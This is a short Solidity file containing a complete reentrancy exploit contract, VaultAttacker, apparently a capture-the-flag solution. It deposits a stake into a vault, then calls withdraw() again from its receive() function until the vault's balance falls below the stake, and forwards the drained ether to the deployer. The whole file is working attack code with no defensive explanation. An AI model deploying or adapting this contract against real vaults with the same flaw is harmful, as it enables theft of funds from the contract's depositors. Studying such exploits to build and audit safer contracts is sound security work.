// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @title What the attacker needs to know about the vault.
interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

/// @title Re-enters Vault.withdraw() from receive() until the vault is empty.
contract VaultAttacker {
    IVault private immutable _vault;
    address private immutable _player;
    uint256 private _stake;

    constructor(address vault) {
        _vault = IVault(vault);
        _player = msg.sender;
    }

    /// @notice Deposit msg.value, withdraw it again and again, send the loot to the player.
    function attack() external payable {
        _stake = msg.value;
        _vault.deposit{value: msg.value}();
        _vault.withdraw();
        (bool ok, ) = _player.call{value: address(this).balance}("");
        require(ok, "could not pay the player");
    }

    /// @notice The vault pays us before it zeroes our balance: ask again while it can pay.
    receive() external payable {
        if (address(_vault).balance >= _stake) {
            _vault.withdraw();
        }
    }
}
